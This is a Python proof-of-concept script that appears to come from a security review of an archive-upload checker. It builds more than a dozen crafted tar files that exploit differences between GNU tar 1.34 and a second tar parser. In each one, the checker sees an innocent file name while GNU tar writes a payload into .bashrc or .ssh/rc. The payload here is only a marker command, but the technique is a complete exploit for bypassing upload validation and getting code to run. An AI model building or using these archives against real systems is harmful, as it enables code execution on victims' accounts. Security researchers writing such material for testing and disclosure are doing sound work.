# PoC generator for the hostile-uploads review (H1-H7): GNU tar 1.34 extracts .bashrc / .ssh/rc from each,
# the tar follower lists something else. Writes the archives next to this script.
import os, sys
B=512
def hdr(name, typ=b'0', size=0, link=b'', magic=b'ustar\x0000', prefix=b'', mode=0o644, sizefield=None, extra=None):
    h=bytearray(B)
    def put(off,ln,val): h[off:off+len(val)]=val
    put(0,100,name[:100])
    put(100,8,b'%07o\0'%mode)
    put(108,8,b'0001750\0'); put(116,8,b'0001750\0')
    put(124,12,sizefield if sizefield is not None else b'%011o\0'%size)
    put(136,12,b'14712345670\0')
    h[156]=typ[0]
    put(157,100,link)
    put(257,8,magic)
    put(265,32,b'user'); put(297,32,b'user')
    put(345,155,prefix)
    if extra:
        for off,val in extra: put(off,len(val),val)
    h[148:156]=b'        '
    s=sum(h)
    h[148:156]=b'%06o\0 '%s
    return bytes(h)
def pad(d): return d+b'\0'*((-len(d))%B)
def rec(k,v):
    body=b' '+k+b'='+v+b'\n'
    n=len(body)+1
    while len(str(n).encode())+len(body)!=n: n+=1
    return str(n).encode()+body
def member(name,data,typ=b'0',**kw): return hdr(name,typ,len(data),**kw)+pad(data)
EOFM=b'\0'*(B*2)
payload=b'echo PWNED > /tmp/hx/pwned-$$\n'
A={}
# 1: Solaris 'X' extended header, honored by GNU tar like 'x'
x=rec(b'path',b'.bashrc')
A['X-type']=member(b'PaxHeaders/a',x,typ=b'X')+member(b'innocent.txt',payload)+EOFM
# 2: 'x' then 'L'
A['x-then-L']=member(b'PaxHeaders/a',x,typ=b'x')+member(b'././@LongLink',b'innocent.txt\0',typ=b'L',magic=b'ustar  \0')+member(b'innocent.txt',payload)+EOFM
# 3: global 'g' path
A['g-path']=member(b'GlobalHead',x,typ=b'g')+member(b'innocent.txt',payload)+EOFM
# 4: GNU.sparse.name
A['sparse-name']=member(b'PaxHeaders/a',rec(b'GNU.sparse.name',b'.bashrc'),typ=b'x')+member(b'innocent.txt',payload)+EOFM
# 5: symlink with size>0 and a "data" block which is a header
inner=member(b'.bashrc',payload)
A['symlink-size']=hdr(b'lnk',b'2',len(inner),link=b'target')+inner+member(b'after.txt',b'hi\n')+EOFM
A['hardlink-size']=member(b'seed.txt',b'x\n')+hdr(b'hl',b'1',len(inner),link=b'seed.txt')+inner+member(b'after.txt',b'hi\n')+EOFM
A['dir-size']=hdr(b'dd',b'5',len(inner),mode=0o755)+inner+member(b'after.txt',b'hi\n')+EOFM
A['fifo-size']=hdr(b'ff',b'6',len(inner))+inner+member(b'after.txt',b'hi\n')+EOFM
# 6: symlink traversal to .ssh
A['symlink-dir']=hdr(b'k',b'2',0,link=b'.ssh')+member(b'k/rc',payload)+EOFM
# 7: pax linkpath/ size mismatch: pax size smaller than header size
p=rec(b'size',b'0')
A['pax-size0']=member(b'PaxHeaders/a',p,typ=b'x')+hdr(b'innocent.txt',b'0',len(inner))+inner+EOFM
# 8: regular file whose name ends with slash
A['slash']=member(b'.bashrc/',payload)+EOFM
for k,v in A.items():
    open(os.path.join(os.path.dirname(os.path.abspath(__file__)),'%s.tar'%k),'wb').write(v)
A={}
# 9: two pax headers
A['x-x']=member(b'PaxHeaders/a',rec(b'path',b'innocent.txt'),typ=b'x')+member(b'PaxHeaders/b',rec(b'comment',b'hi'),typ=b'x')+member(b'.bashrc',payload)+EOFM
# 10: old GNU sparse with an extension block the follower does not know
bashrc=member(b'.bashrc',payload)
fake=hdr(b'innocent.txt',b'0',len(bashrc))
sp=[(386,b'%011o\0'%0),(398,b'%011o\0'%512),(482,b'\x01'),(483,b'%011o\0'%512)]
S=hdr(b'data.bin',b'S',512,magic=b'ustar  \0',extra=sp)
ext=bytearray(512); ext[0:12]=b'%011o\0'%0; ext[12:24]=b'%011o\0'%0
A['sparse-ext']=S+bytes(ext)+fake+bashrc+EOFM
for k,v in A.items():
    open(os.path.join(os.path.dirname(os.path.abspath(__file__)),'%s.tar'%k),'wb').write(v)
A={}
sp=[]
for i in range(4):
    sp.append((386+24*i,b'%011o\0'%(128*i))); sp.append((398+24*i,b'%011o\0'%128))
sp+=[(482,b'\x01'),(483,b'%011o\0'%512)]
S=hdr(b'data.bin',b'S',512,magic=b'ustar  \0',extra=sp)
ext=bytes(512)
A['sparse-ext']=S+ext+fake+bashrc+EOFM
for k,v in A.items():
    open(os.path.join(os.path.dirname(os.path.abspath(__file__)),'%s.tar'%k),'wb').write(v)
A={}
sp=[]
for i in range(4):
    sp.append((386+24*i,b'%011o\0'%(1024*i))); sp.append((398+24*i,b'%011o\0'%512))
sp+=[(482,b'\x01'),(483,b'%011o\0'%3584)]
S=hdr(b'data.bin',b'S',2048,magic=b'ustar  \0',extra=sp)
A['sparse-ext']=S+bytes(512)+b'A'*512*3+fake+bashrc+EOFM
for k,v in A.items():
    open(os.path.join(os.path.dirname(os.path.abspath(__file__)),'%s.tar'%k),'wb').write(v)
# H15: a pax record whose length (2**64 + 30) wraps around in the follower's uint64 to the real 30:
# the follower takes path=abc, GNU tar rejects the header ("Extended header length ... is out of
# range") and extracts the member under its ustar name, .bashrc.
r=b'18446744073709551646 path=abc\n'
open(os.path.join(os.path.dirname(os.path.abspath(__file__)),'pax-len-overflow.tar'),'wb').write(
    member(b'PaxHeaders/a',r,typ=b'x')+member(b'.bashrc',payload)+EOFM)
# H16: a header whose checksum is written in base-256: the follower's number() accepts it, GNU tar
# reads checksums as octal only, rejects the header and skips block by block to the next valid
# one: the .bashrc member that the follower took for the bogus member's data.
inner=member(b'.bashrc',payload)
h=bytearray(hdr(b'innocent.txt',b'0',len(inner)))
h[148:156]=b'        '
s=sum(h)
h[148:156]=b'\x80'+s.to_bytes(7,'big')
open(os.path.join(os.path.dirname(os.path.abspath(__file__)),'chksum-b256.tar'),'wb').write(bytes(h)+inner+EOFM)
